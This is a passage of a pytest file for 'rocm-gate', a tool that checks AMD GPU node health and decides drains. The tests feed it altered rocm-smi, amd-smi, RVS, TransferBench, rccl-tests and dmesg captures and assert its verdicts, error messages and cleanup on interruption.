            name, value, *rest = line.split()
            larger[index] = " ".join([name, f"{float(value) / 10:.3f}", *rest])
    sweep = tmp_path / "stream.txt"
    sweep.write_text("\n".join(first + larger) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"babelstream={sweep}")
    [fall] = [
        f for f in _findings(evidence, "hardware", "babelstream.triad_sizes") if f["status"] != "ok"
    ]
    assert code == 3 and fall["status"] == "failed" and fall["line"] == 25
    assert (
        fall["message"]
        == "Triad falls 90 % from 3,948,062 MB/s at 2147.5 MB arrays to 394,806 MB/s at 4295 MB"
    )


PBQT = "rvs/mi355x_x8_rvs1.6.75_pbqt_xgmi_d2d_unidir_61GBps_with_summary_rocm7.2.1_rvs-ug1main_EXCERPT.txt"


def test_an_rvs_pair_below_the_other_pairs_is_found(capsys, tmp_path):
    """The real MI355X pbqt run with pair 9 -> 4 (line 15, 59.704 GBps) at 45 GBps, 27 % under the
    others."""
    slow = tmp_path / "pbqt.txt"
    slow.write_text(
        _sample(PBQT).replace(
            "bidirectional: false 59.704 GBps", "bidirectional: false 45.000 GBps"
        )
    )
    code, evidence = preflight(capsys, "--sku", "MI355X", "--source", f"rvs={slow}")
    [link] = [f for f in _findings(evidence, "hardware", "rvs.peer_link") if f["status"] != "ok"]
    assert code == 3 and link["status"] == "failed" and link["line"] == 15
    assert link["message"].startswith(
        "xgmi_d2d_unidir_bandwidth, unidirectional: GPU 9 to GPU 4 45 GB/s, 27 % below"
    )


def test_the_rocm_6_concise_layout_reads_every_line(capsys):
    """rocm-smi of ROCm 6.1+ wraps each row with the product name under it
    (tests/data/samples/rocm-smi)."""
    code, evidence = preflight(
        capsys,
        "--source",
        f"rocm-smi={SAMPLES / 'rocm-smi/mi300x_x4_rocm-smi_concise_thamada.txt'}",
    )
    assert code == 0 and [f["count"] for f in _findings(evidence, "hardware", "vram.idle")] == [4]
    assert layer(evidence, "hardware")["sources"][0]["unread"] == 0


def test_a_polling_status_in_the_hip_log_is_not_an_error(capsys, tmp_path):
    """AMD_LOG_LEVEL=3 logs every stream poll of rccl-tests as `Returned hipErrorNotReady`: not a
    failure."""
    name = "rccl-tests/mi300x_x8_all_reduce_perf_8G_system-acceptance-docs_wscollapsed.txt"
    lines = _sample(name).splitlines()
    lines.insert(
        20,
        ":3:hip_stream.cpp :393 : 2212396 us: [pid:1 tid:0x7f] hipStreamQuery: Returned hipErrorNotReady :",
    )
    logged = tmp_path / "all_reduce.txt"
    logged.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"rccl-tests={logged}")
    assert code == 0 and not _findings(evidence, "communication", "tool.error")


CONCISE = "rocm-smi/mi350x_x8_rocm-smi_concise_idle_rocm7.0_mhilgema-proj.txt"


def test_vram_held_on_idle_gpus_fails_the_hardware_layer(capsys, tmp_path):
    """The real idle 8x MI350X concise table with GPUs 0-5 at VRAM% 75, GPU% 0 (what a hang leaves
    behind)."""
    code, evidence = preflight(
        capsys, "--sku", "MI350X", "--source", f"rocm-smi={PREFLIGHT / CONCISE}"
    )
    assert code == 0 and [f["count"] for f in _findings(evidence, "hardware", "vram.idle")] == [8]
    lines = _sample(CONCISE).splitlines()
    for index in range(5, 11):  # rows of GPUs 0-5: "... 1000.0W  0%     0%"
        head, vram, activity = lines[index].rsplit(None, 2)
        lines[index] = f"{head}  75%    {activity}"
    held = tmp_path / "rocm-smi.txt"
    held.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI350X", "--source", f"rocm-smi={held}")
    failed = [f for f in _findings(evidence, "hardware", "vram.idle") if f["status"] == "failed"]
    assert code == 3 and len(failed) == 6
    assert failed[0]["line"] == 6 and failed[0]["message"].startswith(
        "GPU 0 holds 75 % of its VRAM at 0 % activity"
    )
    # amd-smi monitor -v and rocm-smi --showmeminfo vram, shaped like amd-smi's CHANGELOG example
    # and rocm-smi's output
    monitor = tmp_path / "monitor.txt"
    monitor.write_text(
        "GPU  POWER  GPU_TEMP  MEM_TEMP  GFX_UTIL  VRAM_USED  VRAM_TOTAL\n"
        "  0  248 W     55 °C     48 °C      0 %     283 MB   196300 MB\n"
        "  1  247 W     55 °C     48 °C      0 %  150000 MB   196300 MB\n"
        "  2  247 W     55 °C     48 °C     97 %  120000 MB   196300 MB\n"
    )
    meminfo = tmp_path / "meminfo.txt"
    meminfo.write_text(
        "GPU[0]\t\t: VRAM Total Memory (B): 205822885888\nGPU[0]\t\t: VRAM Total Used Memory (B): 154367164416\n"
    )
    code, evidence = preflight(
        capsys,
        "--sku",
        "MI300X",
        "--source",
        f"amd-smi={monitor}",
        "--source",
        f"rocm-smi={meminfo}",
    )
    messages = {
        f["message"]
        for f in _findings(evidence, "hardware", "vram.idle")
        if f["status"] == "failed"
    }
    assert code == 3 and messages == {
        "GPU 1 holds 76 % of its VRAM at 0 % activity: memory left by a hung or killed process; reset the GPU (amd-smi reset -G)",
        "GPU 2 holds 61 % of its VRAM at 97 % activity: a process still runs on a node offered for a job",
        "GPU 0 holds 75 % of its VRAM (no activity figure): memory left by a hung or killed process; reset the GPU (amd-smi reset -G)",
    }


def test_vram_columns_of_other_layouts(capsys, tmp_path):
    """ROCm 7's `VRAM_USAGE` cell ("95.3/192.0 GB"), a concise row whose GPU% is N/A, and a monitor
    row whose cells do not carry their column's unit (a layout the reader does not know: the cell is
    not judged)."""
    monitor = tmp_path / "monitor.txt"
    monitor.write_text(
        "GPU  POWER  GPU_T  MEM_T  GFX_CLK  GFX%  MEM%  VRAM_USAGE\n"
        "  0  250 W  55 °C  43 °C  144 MHz   0 %   0 %  95.3/192.0 GB\n"
        "  1  250 W  55 °C  134 MHz  43 °C   0 %   0 %  0.3/192.0 GB\n"
    )
    lines = _sample(CONCISE).splitlines()
    head, vram, activity = lines[6].rsplit(None, 2)
    lines[6] = f"{head}  45%    N/A"
    concise = tmp_path / "rocm-smi.txt"
    concise.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(
        capsys, "--source", f"amd-smi={monitor}", "--source", f"rocm-smi={concise}"
    )
    failed = {
        f["message"]
        for f in _findings(evidence, "hardware", "vram.idle")
        if f["status"] == "failed"
    }
    assert code == 3 and failed == {
        "GPU 0 holds 50 % of its VRAM at 0 % activity: memory left by a hung or killed process; reset the GPU (amd-smi reset -G)",
        "GPU 1 holds 45 % of its VRAM (no activity figure): memory left by a hung or killed process; reset the GPU (amd-smi reset -G)",
    }
    temperatures = [
        f for f in layer(evidence, "hardware")["findings"] if f["check"] == "temperature.memory"
    ]
    # 134 MHz is not 134 C
    assert [f["status"] for f in temperatures] == ["ok"] and temperatures[0]["line"] == 2


@pytest.mark.parametrize(
    "error",
    [
        "[ERROR] HIP Error: hipErrorIllegalAddress (an illegal memory access was encountered)",
        "Exit code:    1",  # mpirun's report of a rank that failed
        "[1,0]<stderr>:Traceback (most recent call last):",
        "Aborting with error : HSA_STATUS_ERROR_MEMORY_APERTURE_VIOLATION",
    ],
)
def test_a_line_the_tool_marks_as_an_error_fails_its_layer(capsys, tmp_path, error):
    """The real 8x MI350X a2a capture with a tool's error line inserted after its summary line."""
    name = "transferbench/mi350x_x8_transferbench_a2a_51.4GBps_rocm7.0_mhilgema-proj_EXCERPT.txt"
    lines = _sample(name).splitlines()
    lines.insert(2, error)
    broken = tmp_path / "a2a.txt"
    broken.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI350X", "--source", f"transferbench={broken}")
    hardware = layer(evidence, "hardware")
    assert code == 3 and hardware["verdict"] == "failed"
    [found] = _findings(evidence, "hardware", "tool.error")
    assert found["line"] == 3 and found["text"] == error
    assert f"the tool printed an error ({broken}:3)" in hardware["reason"]
    # quoted as the error, not counted as not understood
    assert hardware["sources"][0]["unread"] == 0


def test_output_that_is_not_the_tool_fails_and_says_so(capsys, tmp_path):
    garbage = tmp_path / "notes.txt"
    garbage.write_text("hello\nthis is not rccl-tests\n")
    code, evidence = preflight(
        capsys, "--require", "communication", "--source", f"rccl-tests={garbage}"
    )
    communication = layer(evidence, "communication")
    assert code == 3 and communication["verdict"] == "failed"
    assert (
        "not one of its 2 line(s) is rccl-tests output" in communication["reason"]
        and str(garbage) in communication["reason"]
    )
    assert communication["sources"][0]["unread"] == 2
    # an optional layer is not proven, and the run is not accepted: it did not read what it was
    # given
    code, evidence = preflight(capsys, "--source", f"rccl-tests={garbage}")
    assert code == 4 and layer(evidence, "communication")["verdict"] == "skipped"
    assert layer(evidence, "communication")["reason"].startswith(
        f"not proven: {garbage}: not one of its 2 line(s)"
    )


def test_binary_garbage_is_never_a_healthy_kernel_log(capsys, tmp_path):
    """5 MB of random bytes given as the kernel log: read with errors="replace" it is mostly U+FFFD
    and controls."""
    import random

    garbage = tmp_path / "dmesg.bin"
    garbage.write_bytes(random.Random(7).randbytes(5 * 1024 * 1024))
    code, evidence = preflight(capsys, "--require", "hardware", "--source", f"dmesg={garbage}")
    hardware = layer(evidence, "hardware")
    assert code == 3 and hardware["verdict"] == "failed"
    assert (
        "not text: a binary or damaged file, not dmesg output" in hardware["reason"]
        and str(garbage) in hardware["reason"]
    )
    code, evidence = preflight(capsys, "--source", f"dmesg={garbage}")
    assert (
        code == 4
        and layer(evidence, "hardware")["verdict"] == "skipped"
        and not evidence["accepted"]
    )


BOOT = "dmesg/mi300x_x8_dmesg_boot_amdgpu_init_gpu0_ras_ok_xgmi_hive_rocm6.2.2_augmxnt_EXCERPT.txt"


@pytest.mark.parametrize(
    "line,status",
    [
        ("amdgpu 0000:05:00.0: probe with driver amdgpu failed with error -12", "failed"),
        (
            "[drm:amdgpu_device_init [amdgpu]] *ERROR* sw_init of IP block <gmc_v9_0> failed -12",
            "failed",
        ),
        ("[drm:psp_hw_start [amdgpu]] *ERROR* PSP load tmr failed!", "failed"),
        (
            "amdgpu 0000:05:00.0: amdgpu: SMU: I'm not done with your previous command: SMN_C2PMSG_66:0x0000000E",
            "failed",
        ),
        ("amdgpu 0000:05:00.0: amdgpu: GPU hang detected", "failed"),
        ("amdgpu: Xgmi link is down", "failed"),
        ("amdgpu 0000:05:00.0: amdgpu: Failed to disable gfxoff!", "degraded"),
    ],
)
def test_amdgpu_errors_in_the_kernel_log_are_not_chatter(capsys, tmp_path, line, status):
    """The real healthy boot log of 8x MI300X with one amdgpu error line appended (timestamped like
    its lines)."""
    log = tmp_path / "dmesg.txt"
    log.write_text(_sample(BOOT).rstrip("\n") + f"\n[   14.999999] {line}\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"dmesg={log}")
    hardware = layer(evidence, "hardware")
    assert hardware["verdict"] == status, hardware["reason"]
    assert [f["line"] for f in hardware["findings"] if f["status"] == status] == [
        len(_sample(BOOT).splitlines()) + 1
    ]


def test_text_that_is_mostly_something_else_is_not_a_kernel_log(capsys, tmp_path):
    """base64 of the healthy boot log: text, with a few lines that happen to contain `drm`."""
    import base64

    encoded = tmp_path / "dmesg.b64"
    encoded.write_text(base64.encodebytes(_sample(BOOT).encode() * 40).decode())
    code, evidence = preflight(capsys, "--source", f"dmesg={encoded}")
    assert (
        code == 4
        and " of its " in layer(evidence, "hardware")["reason"]
        and "dmesg output" in layer(evidence, "hardware")["reason"]
    )


def test_odd_but_readable_sources(capsys, tmp_path):
    """A BOM before amd-smi's JSON, rocm-smi --json and --showmemuse, RVS peers:false, an RCCL
    advice warning, nan as the largest size's bandwidth, a p2p row cut short, and a p2p matrix of
    zeros."""
    ecc = tmp_path / "ecc.json"
    ecc.write_bytes(
        b"\xef\xbb\xbf"
        + json.dumps({"gpu_data": [{"gpu": 0, "ecc": {"total_uncorrectable_count": 1}}]}).encode()
    )
    rocm_json = tmp_path / "rocm-smi.json"
    rocm_json.write_text(
        json.dumps({"card0": {"GPU use (%)": "0", "GPU Memory Allocated (VRAM%)": "73"}})
    )
    memuse = tmp_path / "memuse.txt"
    memuse.write_text("GPU[0]\t\t: GPU Memory Allocated (VRAM%): 0\nGPU[0]\t\t: GPU use (%): 0\n")
    rvs = tmp_path / "rvs.txt"
    rvs.write_text(
        _sample("rvs/mi300x_x8_rvs_pbqt_single_p2p_system-acceptance-docs_EXCERPT.txt").replace(
            "peers:true", "peers:false", 1
        )
    )
    code, evidence = preflight(
        capsys,
        "--source",
        f"amd-smi={ecc}",
        "--source",
        f"rocm-smi={rocm_json}",
        "--source",
        f"rocm-smi={memuse}",
        "--source",
        f"rvs={rvs}",
    )
    failed = {
        (f["check"], f.get("line"))
        for f in layer(evidence, "hardware")["findings"]
        if f["status"] == "failed"
    }
    assert code == 3 and failed == {
        ("ecc.uncorrectable", None),
        ("vram.idle", None),
        ("rvs.p2p_peers", 1),
    }
    assert [
        f["status"]
        for f in _findings(evidence, "hardware", "vram.idle")
        if f.get("file") == str(memuse)
    ] == ["ok"]

    lines = _sample(
        "rccl-tests/mi300x_x8_all_reduce_perf_8G_system-acceptance-docs_wscollapsed.txt"
    ).splitlines()
    advice = tmp_path / "advice.txt"
    advice.write_text(
        "\n".join(
            [
                "NCCL WARN NUMA auto balancing enabled which can lead to variability in the RCCL "
                'performance! Disable by "sudo sysctl kernel.numa_balancing=0"',
                *lines,
            ]
        )
        + "\n"
    )
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"rccl-tests={advice}")
    assert code == 0, layer(evidence, "communication")["reason"]
    last = max(i for i, line in enumerate(lines) if line.startswith("8589934592"))
    lines[last] = lines[last].replace(" 316.55 ", " nan ").replace(" 315.84 ", " -nan ")
    not_a_number = tmp_path / "nan.txt"
    not_a_number.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"rccl-tests={not_a_number}")
    assert (
        code == 3
        and "the largest size has no bus bandwidth" in layer(evidence, "communication")["reason"]
    )

    p2p = _sample(P2P).splitlines()
    cut_row = tmp_path / "p2p.txt"
    cut_row.write_text("\n".join([*p2p[:12], p2p[12].rsplit(None, 3)[0]]) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={cut_row}")
    assert (
        code == 3
        and "the unidirectional GFX -> row of GPU 7 has 7 of 10 cells"
        in layer(evidence, "hardware")["reason"]
    )
    zeros = tmp_path / "zeros.txt"
    zeros.write_text(
        "\n".join(p2p[:5] + [" ".join(line.split()[:3] + ["0.00"] * 10) for line in p2p[5:13]])
        + "\n"
    )
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={zeros}")
    assert code == 3 and "measured 0 GB/s: no transfer ran" in layer(evidence, "hardware")["reason"]


def test_on_this_machine_the_layers_say_why_they_were_skipped(capsys):
    if shutil.which("amd-smi") or shutil.which("rocm-smi"):
        pytest.skip("this machine has AMD tools: the live path is checked on GPU runners")
    code = rocm_gate(["preflight", "--json"])
    evidence = json.loads(capsys.readouterr().out)
    hardware = layer(evidence, "hardware")
    assert hardware["verdict"] == "skipped" and "amd-smi is not installed" in hardware["reason"]
    assert hardware["reason"].startswith("not proven: ")
    assert layer(evidence, "communication")["reason"] == "rccl-tests not run: add --benchmarks"
    assert layer(evidence, "framework")["verdict"] == "failed"  # no GPU visible: this is no runner
    assert "no GPU visible" in layer(evidence, "framework")["reason"]
    assert code == 3 and not evidence["accepted"]


def test_framework_layer_compares_the_pinned_stack(capsys, tmp_path):
    stack = tmp_path / "image.json"
    stack.write_text(
        json.dumps(
            {
                "image": "rocm/vllm@sha256:aa",
                "packages": {"torch": "2.9.0+rocm7.0", "vllm": "0.32.0"},
            }
        )
    )
    pinned = tmp_path / "pinned.json"
    pinned.write_text(
        json.dumps(
            {
                "image": "rocm/vllm@sha256:aa",
                "packages": {"torch": "2.9.0+rocm7.0", "vllm": "0.32.1"},
            }
        )
    )
    code, evidence = preflight(
        capsys, "--platform", "mi300x-8", "--stack", str(stack), "--expect-stack", str(pinned)
    )
    framework = layer(evidence, "framework")
    assert code == 3 and framework["verdict"] == "failed"
    assert framework["reason"] == "vllm 0.32.0 is not the pinned 0.32.1"
    code, evidence = preflight(
        capsys, "--platform", "mi300x-8", "--stack", str(stack), "--expect-stack", str(stack)
    )
    assert code == 0 and layer(evidence, "framework")["verdict"] == "ok"
    code, evidence = preflight(capsys, "--platform", "mi300x-4", "--sku", "MI300X")
    assert code == 3 and "expected 8 GPU(s)" in layer(evidence, "framework")["reason"]


def test_workload_layer_runs_the_smoke_test_on_each_gpu_alone(capsys):
    fails_on_3 = f"{sys.executable} -c \"import os, sys; sys.exit(os.environ['HIP_VISIBLE_DEVICES'] == '3')\""
    code, evidence = preflight(capsys, "--platform", "mi300x-8", "--smoke-command", fails_on_3)
    workload = layer(evidence, "workload")
    assert code == 3 and workload["verdict"] == "failed"
    assert workload["reason"] == "GPU 3: the smoke test exited with 1: no output"
    code, evidence = preflight(
        capsys,
        "--platform",
        "mi300x-2",
        "--expect-gpus",
        "2",
        "--smoke-command",
        f"{sys.executable} -c pass",
    )
    assert layer(evidence, "workload")["reason"] == "the smoke test passed on each of 2 GPU(s)"


@pytest.mark.parametrize(
    "args,message",
    [
        (["--source", "nvidia-smi=x"], "unknown tool 'nvidia-smi'"),
        (["--source", "rvs"], "expected TOOL=FILE"),
        (["--source", "rvs=/no/such/file"], "/no/such/file: cannot read it"),
        (["--require", "hardware,network"], "unknown layer(s) network"),
        (["--sku", "MI999X"], "unknown SKU 'MI999X'"),
    ],
)
def test_bad_arguments_are_named(capsys, args, message):
    with pytest.raises(SystemExit) as exit_info:
        code = rocm_gate(["preflight", *args])
        raise SystemExit(code)
    assert exit_info.value.code == 2
    assert message in capsys.readouterr().err


@pytest.mark.parametrize(
    "text,message",
    [
        ("[sku.MI300X]\nrccl_busbw = 1\nrccl_busbw_source = 'x'\n", "unknown key 'rccl_busbw'"),
        (
            "[sku.MI300X]\nrccl_all_reduce_busbw_gbps = 304\n",
            "rccl_all_reduce_busbw_gbps has no source",
        ),
        ("[sku.MI300X\n", "not valid TOML"),
        ("[sku.MI999X]\ngpus = 8\ngpus_source = 'x'\n", "[sku.MI999X] is not a SKU table"),
        (
            "[default]\npcie_width = 'x16'\npcie_width_source = 'x'\n",
            "pcie_width = 'x16': expected a finite number",
        ),
        (
            "[default]\nhotspot_temperature_max_c = nan\nhotspot_temperature_max_c_source = 'x'\n",
            "[default] hotspot_temperature_max_c = nan: expected a finite number",
        ),
        (
            "[sku.MI300X]\nrccl_all_reduce_busbw_gbps = inf\nrccl_all_reduce_busbw_gbps_source = 'x'\n",
            "[sku.MI300X] rccl_all_reduce_busbw_gbps = inf: expected a finite number",
        ),
        ("default = 5\n", "default = 5 is not a table; write it as [default]"),
        ("sku = 5\n", "sku = 5 is not a table; write each SKU as [sku.NAME]"),
        (
            "[sku.MI300X]\ngpus = 8.5\ngpus_source = 'x'\n",
            "[sku.MI300X] gpus = 8.5: expected a whole number",
        ),
        (
            "[default]\npeer_failed_pct = 250\npeer_failed_pct_source = 'x'\n",
            "peer_failed_pct = 250: expected at most 100",
        ),
        (
            "[default]\nidle_vram_max_pct = 5\nidle_vram_max_pct_source = 7\n",
            "idle_vram_max_pct_source = 7: a source is text",
        ),
        (
            "[default]\npeer_degraded_pct = 30\npeer_degraded_pct_source = 'x'\n",
            "[default] peer_degraded_pct = 30 is above peer_failed_pct = 25",
        ),
        (
            "[default]\ngpus = 1" + "0" * 400 + "\ngpus_source = 'x'\n",
            "expected a finite number from 0 to 1e+15",
        ),
        (
            "[sku.MI300X]\ngpus = 8\ngpus_source = 'a'\n[sku.mi300x]\ngpus = 4\ngpus_source = 'b'\n",
            "[sku.mi300x] is MI300X again; keep one table per SKU",
        ),
    ],
)
def test_a_broken_thresholds_file_is_named(capsys, tmp_path, text, message):
    broken = tmp_path / "thresholds.toml"
    broken.write_text(text)
    code = rocm_gate(["preflight", "--thresholds", str(broken), "--source", f"rvs={broken}"])
    assert code == 2
    err = capsys.readouterr().err
    assert str(broken) in err and message in err


def test_a_thresholds_folder_and_an_out_folder_are_refused_before_the_run(capsys, tmp_path):
    sample = (
        f"rvs={PREFLIGHT / 'rvs/mi300x_x8_rvs_-g_gpu_list_rvs0.0.60202_system-acceptance-docs.txt'}"
    )
    assert rocm_gate(["preflight", "--thresholds", str(tmp_path), "--source", sample]) == 2
    assert f"{tmp_path}: a folder; give the thresholds file" in capsys.readouterr().err
    out = tmp_path / "evidence.json"
    out.mkdir()
    assert (
        rocm_gate(["preflight", "--out", str(out), "--smoke-command", "false", "--source", sample])
        == 2
    )
    assert f"{out}: a folder; give --out a file name" in capsys.readouterr().err
    (tmp_path / "file").write_text("")
    assert (
        rocm_gate(
            ["preflight", "--out", str(tmp_path / "file" / "evidence.json"), "--source", sample]
        )
        == 2
    )
    assert "is a file, not a folder" in capsys.readouterr().err
    # no half-written .tmp
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["evidence.json", "file"]
    link = tmp_path / "link.json"
    link.symlink_to(tmp_path / "elsewhere.json")
    # the write renames over the path: it would replace them
    for device_or_link in ("/dev/null", str(link)):
        assert rocm_gate(["preflight", "--out", device_or_link, "--source", sample]) == 2
        assert f"{device_or_link}: not a plain file" in capsys.readouterr().err
    assert link.is_symlink() and Path("/dev/null").is_char_device()
    for odd in (str(tmp_path / "new-folder") + "/", str(tmp_path / ("x" * 300))):
        assert rocm_gate(["preflight", "--out", odd, "--source", sample]) == 2
        assert odd in capsys.readouterr().err


@pytest.mark.parametrize("stop", ["SIGINT", "SIGTERM"])
def test_an_interrupted_preflight_says_so_writes_nothing_and_leaves_no_smoke_test(tmp_path, stop):
    """Ctrl-C, or a job's cancel, during the smoke test: one line, exit 128 + the signal, no
    evidence file, no traceback, and the smoke test (a grandchild, under the shell) is not left
    running on the GPU."""
    import os
    import signal
    import subprocess
    import time

    out, started, finished = (
        tmp_path / "evidence.json",
        tmp_path / "smoke.pid",
        tmp_path / "smoke.finished",
    )
    smoke = (
        f"{sys.executable} -c \"import os, time; open('{started}', 'w').write(str(os.getpid())); time.sleep(30); "
        f"open('{finished}', 'w')\"; true"
    )
    run = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "rocm_gate.cli",
            "preflight",
            "--require",
            "none",
            "--platform",
            "mi300x-2",
            "--expect-gpus",
            "2",
            "--smoke-command",
            smoke,
            "--out",
            str(out),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        # As from a terminal: a job started in the background by a non-interactive shell (CI's
        # `.ci/run &`, nohup) inherits SIGINT ignored, and Python then keeps ignoring it, so the
        # preflight would run to the end and exit 0.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    deadline = time.monotonic() + 120
    while (
        not (started.exists() and started.read_text())
        and time.monotonic() < deadline
        and run.poll() is None
    ):
        time.sleep(0.1)
    run.send_signal(getattr(signal, stop))
    stdout, stderr = run.communicate(timeout=120)
    assert run.returncode == 128 + getattr(signal, stop), stderr
    assert "rocm-gate preflight: interrupted before it finished; it concluded nothing" in stderr
    assert "Traceback" not in stderr and "accepted" not in stdout and not out.exists()
    smoke_pid = int(started.read_text())
    while time.monotonic() < deadline:
        try:
            os.kill(smoke_pid, 0)
        except ProcessLookupError:
            break
        time.sleep(0.1)
    else:
        os.kill(smoke_pid, signal.SIGKILL)
        pytest.fail("the smoke test outlived the interrupted preflight")
    assert not finished.exists(), (
        "the preflight waited for the smoke test to end instead of stopping it"
    )


@pytest.mark.slow
def test_a_smoke_test_past_its_timeout_is_stopped_with_what_it_started(capsys, tmp_path):
    """A hung smoke test (a grandchild under the shell, as a server started by a script is) fails
    the layer and is killed with its whole process group, not left holding the GPU."""
    import os
    import signal
    import time

    started = tmp_path / "smoke.pid"
    smoke = f"{sys.executable} -c \"import os, time; open('{started}', 'w').write(str(os.getpid())); time.sleep(600)\"; true"
    # 10 s: time enough for the grandchild to start and write its pid on a busy machine
    code, evidence = preflight(
        capsys,
        "--platform",
        "mi300x-1",
        "--expect-gpus",
        "1",
        "--smoke-timeout",
        "10",
        "--smoke-command",
        smoke,
    )
    assert (
        code == 3
        and layer(evidence, "workload")["reason"] == "GPU 0: the smoke test did not finish in 10 s"
    )
    assert started.read_text(), "the smoke test did not start within its timeout"
    smoke_pid, deadline = int(started.read_text()), time.monotonic() + 120
    while time.monotonic() < deadline:
        try:
            os.kill(smoke_pid, 0)
        except ProcessLookupError:
            return
        time.sleep(0.1)
    os.kill(smoke_pid, signal.SIGKILL)
    pytest.fail("the timed-out smoke test was left running")


def test_a_sites_thresholds_file_keeps_the_relative_rules(capsys, tmp_path):
    """A site file written before the relative rules existed: they still run, with the packaged
    values."""
    site = tmp_path / "thresholds.toml"
    site.write_text(
        '[sku.MI300X]\nrccl_all_reduce_busbw_gbps = 304\nrccl_all_reduce_busbw_gbps_source = "AMD guide"\n'
    )
    code, evidence = preflight(
        capsys,
        "--thresholds",
        str(site),
        "--sku",
        "MI300X",
        "--source",
        f"transferbench={PREFLIGHT / P2P}",
    )
    assert code == 0 and _findings(evidence, "hardware", "transferbench.peer_link")[0][
        "message"
    ].startswith("every GPU-to-GPU link within 10 % of its peers")


def _preflight_to(history, name, node, *sources):
    code = rocm_gate(
        [
            "preflight",
            "--require",
            "none",
            "--node",
            node,
            "--sku",
            "MI300X",
            "--out",
            str(history / name),
            *(a for s in sources for a in ("--source", s)),
        ]
    )
    return code


def _ecc_with_correctable(count: int, path):
    """The real all-zero `amd-smi metric --ecc-block` capture with the UMC correctable count set."""
    text = (
        PREFLIGHT / "amd-smi/mi300_amd-smi_metric_--ecc-block_text_all_zero_amdsmi-changelog.txt"
    ).read_text()
    path.write_text(text.replace("CORRECTABLE_COUNT: 0", f"CORRECTABLE_COUNT: {count}", 1))
    return f"amd-smi={path}"


def test_drain_decides_from_a_nodes_recorded_history(capsys, tmp_path):
    history = tmp_path / "history"
    history.mkdir()
    failing = f"dmesg={PREFLIGHT / 'dmesg/mi300x_x8_dmesg_ras_athub_uncorrectable_aca_xgmi_wafl_mode1_reset_rocm6.2.3_rocm-issue-4021.txt'}"
    healthy = (
        f"rccl-tests={PREFLIGHT / 'rccl-tests/mi300x_x8_all_reduce_perf_1node_k8s_hisohara.txt'}"
    )
    assert _preflight_to(history, "n1-a.json", "node-1", failing) == 3
    assert _preflight_to(history, "n1-b.json", "node-1", healthy) == 0
    # once: an incident, not a pattern
    assert _preflight_to(history, "n2-a.json", "node-2", failing) == 3
    assert _preflight_to(history, "n2-b.json", "node-2", healthy) == 0
    for day, count in enumerate((3, 40, 170)):
        assert (
            _preflight_to(
                history,
                f"n3-{day}.json",
                "node-3",
                _ecc_with_correctable(count, tmp_path / f"e{day}"),
            )
            == 0
        )
    assert _preflight_to(history, "n1-c.json", "node-1", failing) == 3
    capsys.readouterr()

    assert rocm_gate(["drain", "--history", str(history), "--node", "node-1"]) == 3
    out = capsys.readouterr().out
    assert "node node-1: DRAIN" in out and "2 of the last 3 preflights failed" in out
    assert "kubectl cordon node-1" in out and "kubectl drain node-1 --ignore-daemonsets" in out
    assert rocm_gate(["drain", "--history", str(history), "--node", "node-2"]) == 0
    assert rocm_gate(["drain", "--history", str(history), "--node", "node-3", "--json"]) == 3
    decision = json.loads(capsys.readouterr().out.split("\n", 1)[1])
    assert decision["reasons"] == [
        "ecc.correctable from amd-smi grows over 3 preflights: 3 (n3-0.json) -> 40 (n3-1.json) "
        "-> 170 (n3-2.json)"
    ]
    # the recovery layer of the next preflight refuses the node
    code, evidence = preflight(
        capsys,
        "--node",
        "node-1",
        "--history",
        str(history),
        "--source",
        healthy,
        "--sku",
        "MI300X",
    )
    assert code == 3 and layer(evidence, "recovery")["verdict"] == "failed"


GOOD = "rocm/vllm@sha256:" + "1" * 64  # digests of the form registries give (64 hex digits)
NEW = "rocm/vllm@sha256:" + "2" * 64


def _test_entry(status: str, verdict: str, gpu: int | None) -> dict:
    attempts = [{"status": status, "worker": "gw0", "gpus": [gpu], "duration": 1.0}] * (
        1 if status == "passed" else 2
    )
    return {
        "group": "engine",
        "blocking": True,
        "gate": True,
        "status": status,
        "verdict": verdict,
        "verdict_reason": "",
        "attempts": attempts,
        "probes": [],
        "duration": 1.0,
        "detail": "",
        "message": "",
    }


MAIN = {
    "event": "push",
    "ref": "refs/heads/main",
    "default_branch": "main",
    "head_sha": "a" * 40,
    "tested_sha": "a" * 40,
}


def _gate_report(path, runner, image, conclusion, infra_tests=(), gpu=None, provenance=MAIN):
    """A gate report that passes the published schema (the strict loader refuses anything else); by
    default of a run on the default branch."""
    tests = {test: _test_entry("crashed", "infra", gpu) for test in infra_tests}
    tests["t::ok"] = _test_entry("passed", "pass", 0)
    path.write_text(
        json.dumps(
            {
                "schema": "pytest-rocm/gate-report/1",
                "conclusion": conclusion,
                "conclusion_reason": "",
                "complete": True,
                "incomplete_causes": [],
                "collection_errors": [],
                "never_ran": [],
                "groups": {"engine": {"total": len(tests)}},
                "skip_reasons": [],
                "tests": tests,
                "record_problems": [],
                "manifest": {
                    "runner": runner,
                    "container_image": image,
                    "finished": path.stem,
                    "provenance": provenance,
                },
            }
        )
    )


def test_drain_follows_infra_verdicts_to_one_gpu_and_names_the_rollback_image(capsys, tmp_path):
    _gate_report(tmp_path / "2026-11-01.json", "node-7", GOOD, "success")
    _gate_report(tmp_path / "2026-11-02.json", "node-7", NEW, "neutral", ["a::x", "b::y"], gpu=5)
    _gate_report(tmp_path / "2026-11-03.json", "node-7", NEW, "neutral", ["c::z"], gpu=5)
    _gate_report(tmp_path / "2026-11-04.json", "node-8", NEW, "neutral", ["a::x"], gpu=1)
    (tmp_path / "notes.json").write_text("{}")
    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-7", "--json"]) == 3
    decision = json.loads(capsys.readouterr().out)
    assert decision["reasons"] == [
